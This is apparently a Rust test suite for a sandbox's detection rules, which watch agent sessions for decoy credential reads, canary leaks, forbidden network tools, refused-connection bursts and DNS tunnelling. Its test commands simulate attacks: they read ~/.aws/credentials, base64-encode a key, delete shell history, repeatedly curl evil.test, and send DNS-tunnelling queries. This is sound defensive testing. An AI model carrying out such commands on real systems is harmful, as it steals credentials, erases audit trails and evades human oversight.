//! Detection rules over the audit record, in real sessions: decoy
//! credentials in the fake home and the watch on them, canary values
//! leaving, tool execs in a tier that forbids them, bursts of refused
//! connections, DNS tunnelling; alerts, containment, and the user's own
//! rules and profile switches.

use serde_json::Value;

use crate::both;
use crate::suite::harness::{ok, stderr, stdout, Env};

/// The session's Detection Finding records.
fn findings(env: &Env) -> Vec<Value> {
    let o = env
        .cordon(["audit", "show", "last", "--json", "--class", "finding"])
        .output()
        .unwrap();
    ok(&o)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn rule_ids(found: &[Value]) -> Vec<String> {
    found
        .iter()
        .map(|f| {
            f["finding_info"]["analytic"]["uid"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect()
}

/// The last session's record says it was contained, and why.
#[track_caller]
fn assert_contained(env: &Env, why: &str) {
    let record: Value = serde_json::from_str(
        &std::fs::read_to_string(env.last_session().join("final.json")).unwrap(),
    )
    .unwrap();
    let contained = record["contained"].as_str().unwrap_or_default();
    assert!(contained.contains(why), "{record}");
}

fn verified(env: &Env) {
    let o = env.cordon(["audit", "verify", "last"]).output().unwrap();
    assert_eq!(o.status.code(), Some(0), "{}{}", stdout(&o), stderr(&o));
}

both!(decoy_reads_and_forbidden_tools_raise_findings, |env| {
    env.profile("exp", "extends = \"default\"\ntier = \"experiment\"\n");
    let o = env.sh(
        &["--profile", "exp"],
        "ls -a ~ > /dev/null; test -s ~/.aws/credentials && echo planted; \
         grep -c aws_access_key_id ~/.aws/credentials; \
         curl --version > /dev/null 2>&1; pip --version > /dev/null 2>&1; echo done",
    );
    let out = ok(&o);
    assert!(out.contains("planted") && out.contains("done"), "{out}");
    let err = stderr(&o);
    assert!(
        err.contains("detection [high] decoy-credential-read"),
        "{err}"
    );
    assert!(
        err.contains("detection [medium] network-tool-exec"),
        "{err}"
    );
    assert!(err.contains("detection finding(s)"), "{err}");
    let found = findings(env);
    let ids = rule_ids(&found);
    // `ls -a ~` lists the decoys without opening them.
    assert_eq!(
        ids.iter().filter(|i| *i == "decoy-credential-read").count(),
        1,
        "{ids:?}"
    );
    assert!(ids.contains(&"network-tool-exec".to_owned()), "{ids:?}");
    // The finding names the record that completed it.
    let decoy = found
        .iter()
        .find(|f| f["finding_info"]["analytic"]["uid"] == "decoy-credential-read")
        .unwrap();
    let related = decoy["finding_info"]["related_events"][0]["uid"]
        .as_str()
        .unwrap()
        .to_owned();
    let o = env
        .cordon(["audit", "show", "last", "--json", "--class", "file"])
        .output()
        .unwrap();
    let open: Value = serde_json::from_str(ok(&o).lines().next().unwrap()).unwrap();
    assert_eq!(open["metadata"]["uid"], related.as_str());
    assert_eq!(open["activity_name"], "Open");
    assert_eq!(open["unmapped"]["decoy"], true);
    assert!(
        open["file"]["path"]
            .as_str()
            .unwrap()
            .ends_with("/.aws/credentials"),
        "{open}"
    );
    assert_eq!(decoy["severity_id"], 4);
    verified(env);

    // Without a tier the tool rules are not in force; the decoys still are.
    let o = env.sh(
        &[],
        "cat ~/.git-credentials > /dev/null; curl --version > /dev/null 2>&1; true",
    );
    ok(&o);
    assert_eq!(rule_ids(&findings(env)), ["decoy-credential-read"]);
});

both!(a_canary_leaving_contains_the_session, |env| {
    // A nap of its own: the other variant of this test runs beside it.
    let nap = match env.who {
        crate::suite::harness::As::Me => "30.1",
        crate::suite::harness::As::Nobody => "30.2",
    };
    let o = env.sh(
        &[],
        &format!(
            "K=$(grep key_id ~/.aws/credentials | cut -d' ' -f3); \
             sleep {nap} & \
             sh -c \"echo $K | base64 > /dev/null\"; sleep 20; echo survived"
        ),
    );
    assert_eq!(o.status.code(), Some(137), "{}{}", stdout(&o), stderr(&o));
    assert!(!stdout(&o).contains("survived"), "{}", stdout(&o));
    let err = stderr(&o);
    assert!(err.contains("detection [critical] canary-sent"), "{err}");
    assert!(err.contains("session contained"), "{err}");
    let ids = rule_ids(&findings(env));
    assert!(ids.contains(&"canary-sent".to_owned()), "{ids:?}");
    let o = env
        .cordon(["audit", "show", "last", "--class", "session"])
        .output()
        .unwrap();
    let text = ok(&o);
    assert!(
        text.contains("Contain") && text.contains("contained_by_rule"),
        "{text}"
    );
    assert_contained(env, "canary-sent");
    // Nothing of the sandbox outlived it: the background sleep is gone.
    let o = std::process::Command::new("pgrep")
        .args(["-f", &format!("^sleep {nap}$")])
        .output()
        .unwrap();
    assert!(
        o.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    verified(env);
});

both!(user_rules_and_profile_switches_apply, |env| {
    let conf = env.config.join("cordon");
    std::fs::create_dir_all(&conf).unwrap();
    std::fs::write(
        conf.join("rules.toml"),
        "[[rule]]\nid = \"history-wipe\"\ntitle = \"Shell history removed\"\nseverity = \"high\"\n\
         action = \"contain\"\nclasses = [\"process\"]\n\
         match = [{ field = \"actor.process.cmd_line\", regex = \"^rm .*_history\" }]\n",
    )
    .unwrap();
    env.profile(
        "quiet",
        "extends = \"default\"\n[audit]\ndisable = [\"decoy-credential-read\"]\n",
    );
    env.own(&env.config);
    let o = env
        .cordon(["audit", "rules", "--profile", "quiet"])
        .output()
        .unwrap();
    let listed = ok(&o);
    assert!(listed.contains("history-wipe"), "{listed}");
    assert!(!listed.contains("decoy-credential-read"), "{listed}");
    let o = env.sh(
        &["--profile", "quiet"],
        "cat ~/.aws/credentials > /dev/null; rm -f ~/.bash_history; sleep 20; echo survived",
    );
    assert_eq!(o.status.code(), Some(137), "{}{}", stdout(&o), stderr(&o));
    assert_eq!(rule_ids(&findings(env)), ["history-wipe"]);

    // No decoys at all when the profile says so.
    env.profile("bare", "extends = \"default\"\n[audit]\ndecoys = false\n");
    let o = env.sh(&["--profile", "bare"], "ls -A ~ | wc -l");
    assert_eq!(ok(&o).trim(), "0");

    // A rule file that does not parse, or a profile naming a rule that
    // does not exist, stops the run before it starts.
    std::fs::write(
        conf.join("rules.toml"),
        "[[rule]]\nid = \"x\"\ntitle = \"t\"\nseverity = \"urgent\"\nmatch = [{ field = \"a\", exists = true }]\n",
    )
    .unwrap();
    env.refused(&[], "severity \"urgent\"");
    std::fs::remove_file(conf.join("rules.toml")).unwrap();
    env.profile(
        "typo",
        "extends = \"default\"\n[audit]\ncontain = [\"canary-snet\"]\n",
    );
    env.refused(&["--profile", "typo"], "canary-snet");
});

both!(a_burst_of_refused_connections_is_a_finding, |env| {
    env.profile(
        "net",
        "extends = \"default\"\n[network]\nmode = \"proxy\"\nallow = [\"api.test\"]\n",
    );
    let o = env.sh(
        &["--profile", "net"],
        "for i in 1 2 3 4 5 6 7 8 9 10 11; do \
         curl -s --max-time 5 http://evil.test/$i > /dev/null; done; echo done",
    );
    assert_eq!(ok(&o).trim(), "done");
    let found = findings(env);
    let burst: Vec<&Value> = found
        .iter()
        .filter(|f| f["finding_info"]["analytic"]["uid"] == "denied-connection-burst")
        .collect();
    assert_eq!(burst.len(), 1, "{found:#?}");
    assert_eq!(
        burst[0]["finding_info"]["related_events"]
            .as_array()
            .unwrap()
            .len(),
        10
    );
});

both!(dns_tunnelling_is_a_finding, |env| {
    if !crate::suite::egress::tun_or_skip(env, "detection::dns_tunnelling_is_a_finding") {
        return;
    }
    let srv = crate::suite::egress::Server::start(None);
    crate::suite::egress::setup_mode(env, &srv, "transparent", "");
    env.profile(
        "net",
        &std::fs::read_to_string(env.config.join("cordon/profiles/net.toml"))
            .unwrap()
            .replace("allow = [", "allow = [\"*.tun.test\", "),
    );
    let probe = r#"
import base64, os, socket, struct
def ask(name):
    q = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0)
    for label in name.split('.'):
        q += bytes([len(label)]) + label.encode()
    q += b'\0' + struct.pack('>HH', 1, 1)
    d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    d.settimeout(5)
    d.sendto(q, ('198.18.0.1', 53))
    return d.recv(512)[3] & 15
for i in range(3):
    chunk = base64.b32encode(os.urandom(20)).decode().lower() + '7'
    print(ask(chunk + '.tun.test'))
"#;
    let o = env.sh(&["--profile", "net"], &format!("python3 -c \"{probe}\""));
    ok(&o);
    let ids = rule_ids(&findings(env));
    assert!(ids.contains(&"dns-tunnel".to_owned()), "{ids:?}");
});

both!(a_log_that_cannot_be_written_contains_the_session, |env| {
    // cordon with files capped at 128 KiB (SIGXFSZ ignored, so writes fail
    // with EFBIG, as on a full disk): its audit log fills up after a few
    // hundred execs, and the agent must not go on unrecorded.
    let o = env
        .command(
            "sh",
            [
                "-c",
                "trap '' XFSZ; ulimit -f 256; exec \"$0\" \"$@\"",
                crate::suite::harness::cordon_bin(),
                "run",
                "--no-tty",
                "--",
                "sh",
                "-c",
                "i=0; while [ $i -lt 5000 ]; do /bin/true; i=$((i+1)); done; echo survived",
            ],
        )
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(137), "{}{}", stdout(&o), stderr(&o));
    assert!(!stdout(&o).contains("survived"));
    let err = stderr(&o);
    assert!(err.contains("the audit log cannot be written"), "{err}");
    assert_contained(env, "audit log cannot be written");
    // What reached the file verifies as far as it goes (no closing
    // checkpoint: exit 3, never "tampered").
    let o = env.cordon(["audit", "verify", "last"]).output().unwrap();
    assert_eq!(o.status.code(), Some(3), "{}{}", stdout(&o), stderr(&o));
});
